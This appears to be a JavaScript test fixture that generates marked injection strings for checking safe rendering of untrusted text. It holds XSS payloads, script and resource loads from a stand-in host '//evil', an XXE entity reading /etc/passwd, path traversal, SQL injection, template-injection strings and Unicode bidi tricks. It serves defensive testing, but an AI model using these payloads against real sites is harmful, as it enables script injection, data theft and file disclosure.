// SPDX-License-Identifier: MIT
// What somebody may write where a page shows it: each ends what may stand around it, and then tries to do something; or is no markup at all,
// but turns, hides, or overflows what stands beside it.

const DO = 'globalThis.executed=1';

/** What would end the place where a text stands. */
const ends = ['', '"', "'", '`', '>', '">', "'>", '-->', '--!>', ']]>', '</title>', '</style>', '</script>', '</textarea>', '</noscript>', '</bdi>', '</svg>', '</p></main>',
        '</summary></details>', '&quot;>', '&#34;>', '\\">', '\\', '\n\n'];

/** What would then do something. */
const deeds = [
        `<script>${DO}</script>`, `<ScRiPt >${DO}</sCrIpT >`, `<script/x>${DO}</script>`, `<script src=//evil></script>`, `<script type=module>${DO}</script>`,
        `<img src=x onerror=${DO}>`, `<img/src=x/onerror=${DO}>`, `<svg onload=${DO}>`, `<svg><script>${DO}</script></svg>`, `<body onload=${DO}>`,
        `<details open ontoggle=${DO}>`, `<input autofocus onfocus=${DO}>`, `<iframe src="javascript:${DO}"></iframe>`, `<iframe srcdoc="<script>parent.executed=1</script>">`,
];
const more = [
        `<object data="javascript:${DO}">`, `<embed src=//evil>`, `<link rel=stylesheet href=//evil>`, `<style>@import'//evil';*{display:none}</style>`, `<meta http-equiv=refresh content="0;url=//evil">`,
        `<base href=//evil/>`, `<form action=//evil><button>x`, `<a href="javascript:${DO}">click</a>`, `<math><mi xlink:href="javascript:${DO}">x`, `<template><script>${DO}</script></template>`,
        `<video src=x onerror=${DO}>`, `<audio src onloadstart=${DO}>`, `<marquee onstart=${DO}>`, `<x onclick=${DO} style=position:fixed;inset:0>`, `<xss id=now>`, `<main id=main data-made=never>`,
        `<p id=stale role=alert>out of date</p>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x">`, `<svg><animate onbegin=${DO} attributeName=x>`,
        `<plaintext>`, `<xmp>`, `<!--`, `<![CDATA[`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`, `&lt;script&gt;${DO}&lt;/script&gt;`, `&#60;script>${DO}</script>`,
        `&#x3c;img src=x onerror=${DO}&#x3e;`, `&amp;lt;b&amp;gt;`, `&nbsp;&zwnj;&notit;`, `%3Cscript%3E${DO}%3C/script%3E`, `\\u003cscript\\u003e${DO}\\u003c/script\\u003e`, `\\x3cscript\\x3e`, `" onmouseover=${DO} x="`,
        `' onfocus=${DO} autofocus tabindex=0 x='`, ` onclick=${DO} `, `{{>status.js}}`, `{{name}}`, `{{#groups}}x`, `{{{name}}}`, `{{=name}}`, `{{/main}}`, `{name}{n}{headline}{age}`, `\${${DO}}`, `<%= ${DO} %>`, `{{constructor.constructor('${DO}')()}}`,
        `$&$1$\`$'`, `%s%s%n%x`, `';DROP TABLE incidents;--`, `../../../../etc/passwd`, `data:text/html,<script>${DO}</script>`, `javascript:${DO}`, `jAvAsCrIpT:${DO}`, `java\tscript:${DO}`, `//evil/x`, `\\\\evil\\x`, `vbscript:x`,
];

/** What is no markup, but may hide or turn what stands beside it, or break a parser. */
const turns = [
        'to the left: \u202egnihtyreve\u202c', '\u2067isolated and never ended', '\u2066\u2066\u2066\u2066', 'end only \u202c\u2069', 'שלום עולם', 'مرحبا بالعالم 123', '\u200f\u200fright', 'zero\u200bwidth\u200d\ufeff', 'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a'.repeat(4),
        'line\u2028separator\u2029paragraph', 'bell\u0007 escape\u001b[31m null', 'tab\tnew\nline\r\nreturn\rdone', '\u0085\u00a0\u2003', 'fullwidth ＜script＞', '\ufffe\uffff\ufffd', '\u{1f469}\u200d\u{1f4bb}\u{1f3f4}\u{e0067}\u{e0062}', 'W'.repeat(300), 'word '.repeat(80), '紅樓夢 曹雪芹', '\u{10ffff}',
        'null', 'undefined', 'true', '0', '-1', 'NaN', '[]', '{}', '[object Object]', '__proto__', 'constructor', 'toString', 'now', 'main', 'stale', ' ', '. ', '-', '\u{1d54f}',
];

/** All, each with a word of its own in it, by which it is found again: m0e, m1e, ... */
export const payloads = [...ends.flatMap((end) => deeds.map((deed) => end + deed)), ...more, ...turns].map((text, i) => `m${i}e${text}`);
export const mark = (i) => `m${i}e`;
